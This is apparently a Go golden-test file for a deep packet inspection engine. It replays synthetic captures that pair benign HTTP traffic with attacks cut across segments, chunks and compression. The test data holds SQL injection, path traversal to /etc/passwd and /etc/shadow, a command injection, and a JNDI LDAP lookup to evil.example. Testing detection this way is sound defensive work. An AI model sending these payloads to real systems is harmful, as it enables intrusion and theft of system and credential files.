package dpi

import (
	"bytes"
	"encoding/json"
	"flag"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/deepwall/deepwall/dpi/flow"
	"github.com/deepwall/deepwall/dpi/pcapio"
	"github.com/deepwall/deepwall/internal/ruletest"
	"github.com/deepwall/deepwall/internal/testutil"

	"github.com/deepwall/deepwall/ctl/eve"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// goldenScenarios build the captures of the golden tests. Each scenario
// has a benign connection and one that the default pack must catch.
var goldenScenarios = []struct {
	name  string
	build func(c *capture)
}{
	{"split_request", func(c *capture) {
		// A request whose line, headers and attack are cut across
		// segments, after a benign one cut the same way.
		benign := "GET /products/42?color=blue HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n"
		attack := "GET /search?q=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n"
		v := c.tcp("198.18.0.10:41000", "198.18.1.1:80").handshake()
		v.sendSplit(flow.ToServer, benign, 3, 20, 45)
		v.send(flow.ToClient, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 6\r\n\r\nblue!\n")
		v.sendSplit(flow.ToServer, attack, 5, 27, 33, 60)
		v.send(flow.ToClient, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nno")
	}},
	{"out_of_order", func(c *capture) {
		// The attack's segments arrive last-first: the early ones are
		// forwarded and held, the one that completes the request is
		// dropped.
		attack := "GET /download?file=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: files.example\r\n\r\n"
		v := c.tcp("198.18.0.11:41001", "198.18.1.2:80").handshake()
		v.segment(flow.ToServer, 40, attack[40:])
		v.segment(flow.ToServer, 20, attack[20:40])
		v.segment(flow.ToServer, 0, attack[:20])
		v.advance(flow.ToServer, len(attack))
		v.ack(flow.ToClient)
		ok := "GET /download?file=report.pdf HTTP/1.1\r\nHost: files.example\r\n\r\n"
		w := c.tcp("198.18.0.12:41002", "198.18.1.2:80").handshake()
		w.segment(flow.ToServer, 30, ok[30:])
		w.segment(flow.ToServer, 0, ok[:30])
		w.advance(flow.ToServer, len(ok))
		w.send(flow.ToClient, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
		w.close()
	}},
	{"chunked", func(c *capture) {
		// A chunked upload whose command injection is cut across chunks
		// and segments, and a chunked response leaking a card number
		// across chunks (alert, masked).
		body := "6\r\ncmd=ls\r\n9\r\n;cat /etc\r\n7\r\n/passwd\r\n0\r\n\r\n"
		attack := "POST /run HTTP/1.1\r\nHost: api.example\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n" + body
		v := c.tcp("198.18.0.13:41003", "198.18.1.3:8080").handshake()
		v.sendSplit(flow.ToServer, attack, len(attack)-len(body)+8, len(attack)-20)
		leak := "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n" +
			"10\r\nyour card: 4111 \r\n" + "a\r\n1111 1111 \r\n" + "c\r\n1111 thanks\n\r\n" + "0\r\n\r\n"
		w := c.tcp("198.18.0.14:41004", "198.18.1.3:8080").handshake()
		w.send(flow.ToServer, "GET /receipt HTTP/1.1\r\nHost: api.example\r\n\r\n")
		w.sendSplit(flow.ToClient, leak, 90, 105)
		w.close()
	}},
	{"pipelined", func(c *capture) {
		// Three requests in one segment; the second is the attack. Its
		// event carries its own URL.
		reqs := "GET /a HTTP/1.1\r\nHost: p.example\r\n\r\n" +
			"GET /b?x=${jndi:ldap://evil.example/a} HTTP/1.1\r\nHost: p.example\r\n\r\n" +
			"GET /c HTTP/1.1\r\nHost: p.example\r\n\r\n"
		v := c.tcp("198.18.0.15:41005", "198.18.1.4:80").handshake()
		v.send(flow.ToServer, reqs)
		ok := "GET /1 HTTP/1.1\r\nHost: p.example\r\n\r\nHEAD /2 HTTP/1.1\r\nHost: p.example\r\n\r\nGET /3 HTTP/1.1\r\nHost: p.example\r\n\r\n"
		w := c.tcp("198.18.0.16:41006", "198.18.1.4:80").handshake()
		w.send(flow.ToServer, ok)
		w.send(flow.ToClient, "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\n1HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\nHTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
		w.close()
	}},
	{"compressed", func(c *capture) {
		// A gzip form body carrying SQL injection behind empty lines,
		// blocked on the request; a brotli response leaking a card
		// number, alerted masked.
		body := compress(c.tb, "gzip", []byte(sqliForm))
		attack := "\r\n\r\nPOST /login HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\n" +
			"Content-Encoding: gzip\r\nContent-Length: " + strconv.Itoa(len(body)) + "\r\n\r\n" + string(body)
		v := c.tcp("198.18.0.19:41009", "198.18.1.6:80").handshake()
		v.sendSplit(flow.ToServer, attack, len(attack)-len(body)+10)
		leak := compress(c.tb, "br", []byte("<p>"+lorem+" Your card: 4111 1111 1111 1111, thanks.</p>"))
		w := c.tcp("198.18.0.20:41010", "198.18.1.6:80").handshake()
		w.send(flow.ToServer, "GET /receipt HTTP/1.1\r\nHost: shop.example\r\nAccept-Encoding: br\r\n\r\n")
		w.send(flow.ToClient, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: br\r\nTransfer-Encoding: chunked\r\n\r\n"+chunked(leak, 40))
		w.close()
	}},
	{"overlap_conflict", func(c *capture) {
		// A retransmission of unacknowledged bytes with other content:
		// the receiver could keep either copy, so the flow is dropped.
		first := "GET /index.html HTTP/1.1\r\nHost: www.example\r\n\r\n"
		second := "GET /admin/../../../etc/shadow HTTP/1.1\r\nHost: www.example\r\n\r\n"
		v := c.tcp("198.18.0.17:41007", "198.18.1.5:80").handshake()
		v.segment(flow.ToServer, 0, first[:20])
		v.segment(flow.ToServer, 0, second[:20])
		// A retransmission with the same bytes is fine.
		w := c.tcp("198.18.0.18:41008", "198.18.1.5:80").handshake()
		w.segment(flow.ToServer, 0, first[:20])
		w.segment(flow.ToServer, 0, first[:20])
		w.segment(flow.ToServer, 20, first[20:])
		w.advance(flow.ToServer, len(first))
		w.send(flow.ToClient, "HTTP/1.1 304 Not Modified\r\n\r\n")
		w.close()
	}},
}

// writePcap writes a capture's frames to a pcap file.
func writePcap(tb testing.TB, c *capture, path string) {
	tb.Helper()
	w, err := pcapio.Create(path)
	if err != nil {
		tb.Fatal(err)
	}
	for _, f := range c.frames {
		if err := w.Write(time.Unix(0, f.ts), f.data); err != nil {
			tb.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		tb.Fatal(err)
	}
}

// TestGolden replays generated pcaps through the offline driver with the
// default pack and compares the events with testdata/golden.
func TestGolden(t *testing.T) {
	dir := t.TempDir()
	pack := ruletest.DefaultPack(t)
	pack.Close()
	for _, sc := range goldenScenarios {
		t.Run(sc.name, func(t *testing.T) {
			c := newCapture(t)
			sc.build(c)
			path := filepath.Join(dir, sc.name+".pcap")
			writePcap(t, c, path)

			var out bytes.Buffer
			enc := json.NewEncoder(&out)
			e, err := New(Config{Rules: ruletest.DefaultPack(t), Offline: true, Emit: func(ev *eve.Event) { _ = enc.Encode(ev) }})
			if err != nil {
				t.Fatal(err)
			}
			defer e.Close()
			r, err := pcapio.Open(path)
			if err != nil {
				t.Fatal(err)
			}
			defer r.Close()
			sum, err := Replay(e, r)
			if err != nil {
				t.Fatal(err)
			}
			if sum.Frames != uint64(len(c.frames)) || sum.Flows == 0 {
				t.Errorf("summary %+v", sum)
			}
			if e.Stats().OpenStreams != 0 {
				t.Errorf("%d streams open after the replay", e.Stats().OpenStreams)
			}
			testutil.Golden(t, filepath.Join("testdata", "golden", sc.name+".golden"), out.Bytes(), *update)
			if strings.Contains(out.String(), "4111 1111 1111 1111") || strings.Contains(out.String(), "1111 1111 1111") {
				t.Error("a card number leaked into the events")
			}
		})
	}
}
